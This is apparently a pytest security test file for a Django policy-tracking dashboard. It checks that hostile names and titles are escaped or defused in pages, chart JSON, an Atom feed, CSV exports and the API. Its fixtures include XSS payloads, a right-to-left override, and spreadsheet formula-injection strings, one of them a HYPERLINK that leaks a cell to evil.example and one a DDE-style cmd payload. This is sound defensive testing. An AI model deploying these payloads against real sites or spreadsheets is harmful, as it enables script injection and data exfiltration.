"""Hostile curated text is shown as text everywhere: pages, chart data, the Atom feed, CSV
exports and the JSON API.

A curator (or a compromised dataset) can put markup, quotes, a right-to-left override or a
spreadsheet formula into any name or title. Each output must carry it as data: escaped in
HTML, escaped inside the JSON the charts read, as text in the feed, defused in CSV, exact
in JSON.
"""

import csv
import io
import json
import xml.etree.ElementTree as ET
from dataclasses import dataclass
from datetime import timedelta
from html.parser import HTMLParser

import pytest
from django.utils import timezone

from actors.models import Actor
from dashboard import services
from initiatives.models import Event, EventKind, Measure, MeasureKind, ParticipationStatus, Role
from tests.factories import (
    CompanyFactory,
    InitiativeFactory,
    ParticipationFactory,
    PrincipleFactory,
    SourceFactory,
    TopicFactory,
)

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
QUOTES = "'\"`"
RLO = "\u202e"
# 67 characters: fits every name and title column (the shortest used here holds 100).
NAME = f"{SCRIPT}{IMG} {QUOTES} {RLO}exe.txt"
# TextFields take any length: 5,000 characters of markup.
LONG = ((SCRIPT + IMG + QUOTES + RLO + " ") * 100)[:5000]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
ESCAPED_SCRIPT = "&lt;script&gt;alert(1)&lt;/script&gt;"
ATOM = "{http://www.w3.org/2005/Atom}"
# What spreadsheets run as a formula (OWASP): no exported cell may start with one.
FORMULA_FIRST = {"=", "+", "-", "@", "\t", "\r"}


@dataclass
class Hostile:
    initiative: object
    announcement: str  # the title the timeline gives the initiative's announcement


@pytest.fixture
def hostile() -> Hostile:
    today = timezone.localdate()  # the newest entries, so the home page lists them
    usa = Actor.objects.get(slug="usa")
    source = SourceFactory(key="hostile-source", publisher=NAME, title=NAME, note=LONG)
    topic = TopicFactory(slug="hostile-topic", name=NAME, description=NAME)
    company = CompanyFactory(slug="hostile-company", name=NAME, short_name=SCRIPT, note=LONG)
    initiative = InitiativeFactory(
        slug="hostile",
        name=NAME,
        short_name=SCRIPT,
        announced_on=today,
        announced_by=NAME,
        venue=NAME,
        summary=LONG,
        note=IMG,
    )
    initiative.sources.add(source)
    principle = PrincipleFactory(
        initiative=initiative,
        order=1,
        code=SCRIPT[:20],
        section=NAME,
        title=NAME,
        paraphrase=LONG,
        note=IMG,
    )
    principle.topics.add(topic)
    principle.sources.add(source)
    for actor in (Actor.objects.get(slug="fra"), company):
        participation = ParticipationFactory(
            initiative=initiative,
            actor=actor,
            role=Role.SIGNATORY,
            status=ParticipationStatus.CONFIRMED,
            joined_on=today,
            joined_on_precision="day",
            instrument=NAME,
            note=LONG,
        )
        participation.sources.add(source)
    measure = Measure.objects.create(
        slug="hostile-measure",
        title=NAME,
        issuer=usa,
        kind=MeasureKind.APP_BAN,
        announced_on=today,
        announced_on_precision="day",
        summary=LONG,
        note=IMG,
    )
    measure.targets.add(company)
    measure.initiatives.add(initiative)
    measure.principles.add(principle)
    measure.sources.add(source)
    event = Event.objects.create(
        slug="hostile-event",
        date=today,
        date_precision="day",
        kind=EventKind.STATEMENT,
        title=NAME,
        description=LONG,
    )
    event.initiatives.add(initiative)
    event.actors.add(company)

    # Names a spreadsheet would run as formulas; a day older, so that the hostile entries
    # above are the latest on the home page.
    yesterday = today - timedelta(days=1)
    formula = InitiativeFactory(
        slug="formula", name=FORMULA, short_name=AT_FORMULA, summary="-2+3", announced_on=yesterday
    )
    formula_principle = PrincipleFactory(initiative=formula, order=1, title=FORMULA)
    formula_principle.topics.add(topic)
    formula_company = CompanyFactory(slug="formula-company", name=AT_FORMULA)
    ParticipationFactory(initiative=formula, actor=formula_company, instrument="+1 555 0100")
    formula_event = Event.objects.create(
        slug="formula-event",
        date=yesterday,
        date_precision="day",
        kind=EventKind.OTHER,
        title=FORMULA,
    )
    formula_event.initiatives.add(formula)

    services.refresh()
    return Hostile(initiative, f"{usa.name} announces the {NAME}")


# -- pages ----------------------------------------------------------------------------------


# Elements whose text is laid out on its own: a direction override inside cannot reorder
# the text around them.
ISOLATING = {"bdi", "title", "option", "textarea"}
BIDI_CONTROLS = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


class Page(HTMLParser):
    """Every tag with its attributes, the text outside scripts, each script's body, and the
    text with a bidi control that no isolating element holds."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.scripts: list[tuple[dict, str]] = []
        self.unisolated: list[str] = []
        self._script = None
        self._isolating = 0
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        self.tags.append((tag, attrs))
        if tag == "script":
            self._script = (attrs, [])
        self._isolating += tag in ISOLATING

    def handle_endtag(self, tag):
        self._isolating -= tag in ISOLATING
        if tag == "script" and self._script is not None:
            attrs, body = self._script
            self.scripts.append((attrs, "".join(body)))
            self._script = None

    def handle_data(self, data):
        (self._script[1] if self._script is not None else self.text).append(data)
        if self._script is None and not self._isolating and BIDI_CONTROLS & set(data):
            self.unisolated.append(data)

    def json_data(self) -> dict:
        """The JSON blocks the chart scripts read, by id."""
        return {
            attrs["id"]: body
            for attrs, body in self.scripts
            if attrs.get("type") == "application/json"
        }


def strings_in(value):
    """Every string inside decoded JSON, keys included."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from strings_in(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings_in(item)


def render(client, url) -> tuple[str, Page]:
    response = client.get(url)
    assert response.status_code == 200, url
    assert response["Content-Type"] == "text/html; charset=utf-8"
    html = response.content.decode()
    return html, Page(html)


def assert_no_markup_got_through(html: str, page: Page):
    assert SCRIPT not in html and "<img" not in html.lower()
    # The only elements with behaviour are our own: scripts from /static/ and JSON blocks.
    for attrs, body in page.scripts:
        if attrs.get("type") == "application/json":
            assert attrs.get("id", "").endswith("-data"), attrs
        else:
            assert attrs.get("src", "").startswith("/static/") and not body.strip(), attrs
    for tag, attrs in page.tags:
        assert tag not in ("img", "iframe", "object", "embed", "svg"), (tag, attrs)
        assert not [name for name in attrs if name.startswith("on")], (tag, attrs)


# (page, the hostile strings its text must show, the JSON blocks that must carry NAME)
PAGES = [
    ("/", ["announcement", NAME], []),
    ("/initiatives/hostile/", [NAME, LONG, IMG], ["map-data"]),
    ("/actors/hostile-company/", [NAME], ["measures-data"]),
    ("/actors/fra/", [NAME], []),
    ("/timeline/?kind=announcement", ["announcement"], ["timeline-data"]),
    ("/timeline/?initiative=hostile", ["announcement", NAME], ["timeline-data"]),
    ("/compare/?initiatives=hostile,gids", [SCRIPT, NAME, LONG], []),
    ("/compare/?initiatives=hostile,formula&topic=hostile-topic", [NAME, FORMULA], []),
    ("/principles/?initiative=hostile", [NAME, LONG, IMG], []),
    ("/sources/?q=hostile", [NAME, LONG], []),
    ("/map/?initiative=hostile&initiative=clean-network", [NAME, SCRIPT], ["map-data"]),
]


@pytest.mark.parametrize(("url", "shown", "charts"), PAGES)
def test_pages_show_hostile_text_as_text(client, hostile, url, shown, charts):
    html, page = render(client, url)
    assert_no_markup_got_through(html, page)
    assert ESCAPED_SCRIPT in html
    text = "".join(page.text)
    for expected in shown:
        expected = hostile.announcement if expected == "announcement" else expected
        assert expected in text, f"{url} does not show {expected[:40]!r}"
    # A right-to-left override in a name reverses only the name, never the page's own
    # words after it: every curated text is set in a <bdi>.
    assert not page.unisolated, [t[:40] for t in page.unisolated]
    # Chart data: json_script escapes < > & so nothing in it can end the <script> element,
    # and the chart script still reads back the exact name.
    blocks = page.json_data()
    for block_id, body in blocks.items():
        assert "<" not in body and ">" not in body and "&" not in body, block_id
    for block_id in charts:
        assert any(NAME in s for s in strings_in(json.loads(blocks[block_id]))), block_id


def test_quotes_stay_inside_attribute_values(client, hostile):
    """The topic description is a title="..." attribute on the crosswalk: its quotes must not
    close the attribute, so the parsed attribute is the whole description."""
    _, page = render(client, "/compare/?initiatives=hostile,gids&topic=hostile-topic")
    titles = [attrs.get("title") for tag, attrs in page.tags if tag == "th"]
    assert NAME in titles
    _, page = render(client, "/initiatives/hostile/")
    labels = [attrs.get("aria-label", "") for _, attrs in page.tags]
    assert any(f"Participations in {SCRIPT} over time" in label for label in labels)


@pytest.mark.parametrize(
    "url",
    [
        "/timeline/?actor={v}",
        "/timeline/?since={v}",
        "/principles/?q={v}",
        "/principles/?topic={v}",
        "/sources/?q={v}",
        "/compare/?initiatives={v},gids",
        "/map/?initiative={v}",
        "/map/?as_of={v}",
    ],
)
def test_hostile_query_values_are_escaped_where_the_page_repeats_them(client, url):
    from urllib.parse import quote

    response = client.get(url.format(v=quote(NAME)))
    assert response.status_code in (200, 400)
    html = response.content.decode()
    assert_no_markup_got_through(html, Page(html))


# -- the Atom feed --------------------------------------------------------------------------


@pytest.mark.parametrize("url", ["/timeline/feed/", "/timeline/feed/?initiative=hostile"])
def test_the_feed_is_well_formed_and_carries_titles_as_text(client, hostile, url):
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/atom+xml")
    assert SCRIPT.encode() not in response.content
    feed = ET.fromstring(response.content)  # raises on XML that is not well-formed
    # Nothing but Atom elements: no markup turned into XML elements.
    assert {element.tag.split("}")[0] for element in feed.iter()} == {ATOM[:-1]}
    titles = [entry.findtext(f"{ATOM}title") for entry in feed.iter(f"{ATOM}entry")]
    day = hostile.initiative.announced_on.isoformat()
    assert f"{day}: {hostile.announcement}" in titles
    assert f"{day}: {NAME}" in titles  # the event, exactly: quotes and RLO included


def test_a_control_character_in_one_title_does_not_break_the_feed(client):
    # A vertical tab pasted from a word processor: XML 1.0 cannot carry it at all.
    Event.objects.create(
        slug="pasted",
        date=timezone.localdate(),
        date_precision="day",
        kind=EventKind.STATEMENT,
        title="Line one\x0bline two\x0c",
    )
    services.refresh()
    response = client.get("/timeline/feed/")
    assert response.status_code == 200
    titles = [
        e.findtext(f"{ATOM}title") for e in ET.fromstring(response.content).iter(f"{ATOM}entry")
    ]
    assert f"{timezone.localdate().isoformat()}: Line one line two " in titles


# -- CSV exports ----------------------------------------------------------------------------


def read_csv(response) -> list[dict]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    text = b"".join(response.streaming_content).decode()
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text[1:], newline="")))
    # Whatever the data, no cell of any export starts a formula.
    for row in rows:
        for column, cell in row.items():
            assert cell[:1] not in FORMULA_FIRST, (column, cell)
    return rows


def by(rows, column, value) -> dict:
    [row] = [row for row in rows if row[column] == value]
    return row


def test_initiatives_csv_defuses_formulas_and_keeps_markup_as_text(client, hostile):
    rows = read_csv(client.get("/api/v1/initiatives/", {"format": "csv"}))
    formula = by(rows, "slug", "formula")
    assert (formula["name"], formula["short_name"]) == ("'" + FORMULA, "'" + AT_FORMULA)
    assert formula["summary"] == "'-2+3"
    hostile_row = by(rows, "slug", "hostile")
    assert (hostile_row["name"], hostile_row["summary"]) == (NAME, LONG)


def test_the_page_csv_exports_defuse_formulas(client, hostile):
    # The timeline page's CSV link, for the formula initiative.
    events = read_csv(client.get("/api/v1/events/", {"initiative": "formula", "format": "csv"}))
    assert "'" + FORMULA in [row["title"] for row in events]
    # The participations export: a company named like a formula, a phone number.
    rows = read_csv(
        client.get("/api/v1/participations/", {"format": "csv", "initiative": "formula"})
    )
    assert [(r["actor_name"], r["instrument"]) for r in rows] == [
        ("'" + AT_FORMULA, "'+1 555 0100")
    ]
    # The crosswalk's CSV link: a principle titled like a formula, a topic named with markup.
    rows = read_csv(
        client.get(
            "/api/v1/compare/",
            {"initiatives": "hostile,formula", "topic": "hostile-topic", "format": "csv"},
        )
    )
    assert {r["principle_title"] for r in rows} == {NAME, "'" + FORMULA}
    assert {r["topic_name"] for r in rows} == {NAME}
    # The map's CSV link keeps the instrument's markup as plain text.
    rows = read_csv(client.get("/api/v1/map/", {"initiative": "hostile", "format": "csv"}))
    assert by(rows, "iso_alpha3", "FRA")["hostile_instrument"] == NAME
    rows = read_csv(client.get("/api/v1/actors/", {"format": "csv", "kind": "company"}))
    assert by(rows, "slug", "formula-company")["name"] == "'" + AT_FORMULA
    assert by(rows, "slug", "hostile-company")["name"] == NAME


# -- the JSON API ---------------------------------------------------------------------------


def get_json(client, url, params=None):
    response = client.get(url, params or {})
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"] == "application/json"
    # Served as JSON that a browser will not sniff into HTML.
    assert response["X-Content-Type-Options"] == "nosniff"
    return json.loads(response.content)


def test_the_api_returns_the_exact_strings(client, hostile):
    detail = get_json(client, "/api/v1/initiatives/hostile/")
    assert (detail["name"], detail["short_name"], detail["summary"], detail["note"]) == (
        NAME,
        SCRIPT,
        LONG,
        IMG,
    )
    assert detail["principles"][0]["title"] == NAME
    assert detail["sources"][0]["title"] == NAME
    assert get_json(client, "/api/v1/actors/hostile-company/")["name"] == NAME
    assert get_json(client, "/api/v1/topics/hostile-topic/")["description"] == NAME
    titles = [
        e["title"]
        for e in get_json(client, "/api/v1/events/", {"initiative": "hostile"})["results"]
    ]
    assert hostile.announcement in titles and NAME in titles
    parts = get_json(client, "/api/v1/participations/", {"initiative": "hostile"})["results"]
    assert {p["instrument"] for p in parts} == {NAME} and NAME in {p["actor_name"] for p in parts}
    compare = get_json(client, "/api/v1/compare/", {"initiatives": "hostile,formula"})
    assert [i["short_name"] for i in compare["initiatives"]] == [SCRIPT, AT_FORMULA]
    assert NAME in {row["topic_name"] for row in compare["rows"]}
    states = get_json(client, "/api/v1/map/", {"initiative": "hostile"})["states"]
    fra = next(s for s in states if s["iso_alpha3"] == "FRA")
    assert fra["cells"][0]["instrument"] == NAME
